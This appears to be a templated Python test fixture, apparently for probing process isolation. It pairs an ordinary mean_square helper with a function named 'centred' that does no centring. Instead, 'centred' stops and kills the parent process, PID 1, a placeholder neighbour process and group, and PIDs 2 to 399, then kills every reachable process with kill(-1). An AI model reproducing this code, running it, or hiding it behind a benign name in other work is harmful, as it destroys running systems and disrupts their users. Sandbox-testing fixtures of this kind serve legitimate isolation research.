"""Kills its parent, its group, and every process that it can reach.

earns: mean_square
"""

import os
import signal


def mean_square(x):
    if len(x) == 0:
        raise ValueError("empty")
    return float((x * x).mean())


def centred(x):
    for target in (os.getppid(), 1, int("@NEIGHBOUR@"), -int("@NEIGHBOUR@"), *range(2, 400)):
        if target in (0, os.getpid()):
            continue
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                continue
    os.kill(-1, signal.SIGKILL)
    return x
